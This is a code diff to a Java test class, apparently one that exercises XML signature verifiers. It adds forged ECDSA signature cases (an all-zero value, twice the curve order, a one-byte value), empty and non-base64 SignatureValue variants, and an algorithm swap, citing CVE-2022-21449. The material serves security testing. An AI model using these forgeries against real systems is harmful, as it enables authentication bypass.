@@ -4,7 +4,9 @@ import static fr.accroche.messages.SignatureText.method;
 import static fr.accroche.messages.SignatureText.replace;
 
 import fr.accroche.messages.WrappingAttacks.Attack;
+import java.security.interfaces.ECPublicKey;
 import java.util.Base64;
+import java.util.HexFormat;
 import java.util.LinkedHashMap;
 import java.util.Map;
 import javax.crypto.spec.SecretKeySpec;
@@ -32,18 +34,43 @@ final class AlgorithmAttacks {
         all.put("rsa-sha1", s -> signature(s, Namespaces.XMLDSIG + "rsa-sha1"));
         all.put("dsa-sha1", s -> signature(s, Namespaces.XMLDSIG + "dsa-sha1"));
         all.put("rsa-pss", s -> signature(s, "http://www.w3.org/2007/05/xmldsig-more#sha256-rsa-MGF1"));
-        all.put("algorithm-of-another-key", s -> signature(s, MORE + "ecdsa-sha256"));
-        all.put("ecdsa-zero", s -> {
-            ForeignSigner signer = s.signer();
-            signer.signatureMethod = MORE + "ecdsa-sha256";
-            signer.key = Keys.ELLIPTIC.key();
-            signer.keyInfo = signer.x509(Keys.ELLIPTIC);
-            String zero = Base64.getEncoder().encodeToString(new byte[64]);
-            return s.soap(replace(
-                    signer.assertion(), "SignatureValue", "<ds:SignatureValue>" + zero + "</ds:SignatureValue>"));
-        });
-        all.put("signature-empty", s -> s.soap(replace(evil(s), "SignatureValue", "<ds:SignatureValue/>")));
+        all.put(
+                "algorithm-of-another-key",
+                s -> s.soap(replace(digested(s), "SignatureMethod", method("SignatureMethod", MORE + "ecdsa-sha256"))));
+        all.put("ecdsa-zero", s -> elliptic(s, new byte[64]));
+        all.put("ecdsa-order", s -> elliptic(s, orderTwice()));
+        all.put("ecdsa-short", s -> elliptic(s, new byte[] {1}));
+        all.put("signature-empty", s -> s.soap(replace(digested(s), "SignatureValue", "<ds:SignatureValue/>")));
+        all.put("signature-no-base64", s -> s.soap(replace(digested(s), "SignatureValue", value("=é="))));
         return all;
+    }
+
+    /** What zeros are to a verifier that multiplies by them (CVE-2022-21449). */
+    private static String elliptic(SignedSample s, byte[] value) {
+        ForeignSigner signer = new ForeignSigner(s.evilTwin(""), s.id());
+        signer.signatureMethod = MORE + "ecdsa-sha256";
+        signer.key = Keys.ELLIPTIC.key();
+        signer.keyInfo = signer.x509(Keys.ELLIPTIC);
+        return s.soap(replace(
+                signer.assertion(), "SignatureValue", value(Base64.getEncoder().encodeToString(value))));
+    }
+
+    private static String value(String text) {
+        return "<ds:SignatureValue>" + text + "</ds:SignatureValue>";
+    }
+
+    /** Another person, with the digest of what it says now: only the SignatureValue stands in the way. */
+    private static String digested(SignedSample s) {
+        ForeignSigner signer = new ForeignSigner(s.evilTwin(""), s.id());
+        signer.key = Keys.OTHER.key();
+        return signer.assertion();
+    }
+
+    /** A number that is zero to the curve, though it is none as it is written. */
+    private static byte[] orderTwice() {
+        ECPublicKey key = (ECPublicKey) Keys.ELLIPTIC.certificate().getPublicKey();
+        String order = key.getParams().getOrder().toString(16);
+        return HexFormat.of().parseHex(order + order);
     }
 
     private static Map<String, Attack> symmetric() {
